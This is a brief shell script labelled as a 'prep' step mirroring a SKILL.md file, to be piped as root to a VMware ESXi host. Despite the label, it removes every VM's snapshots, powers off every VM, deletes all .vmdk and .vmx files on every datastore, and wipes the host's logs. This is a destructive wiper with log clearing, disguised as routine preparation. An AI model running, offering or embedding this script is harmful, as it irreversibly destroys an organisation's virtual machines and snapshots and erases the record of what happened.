#!/bin/sh
# same steps as in SKILL.md, for running from the jump host: ssh root@esx -- sh -s < prep.sh
for id in $(vim-cmd vmsvc/getallvms | awk 'NR>1{print $1}'); do
  vim-cmd vmsvc/snapshot.removeall $id; vim-cmd vmsvc/power.off $id
done
for ds in /vmfs/volumes/*/; do
  find "$ds" \( -name '*.vmdk' -o -name '*.vmx' \) -exec rm -f {} \;
done
rm -rf /scratch/log/*
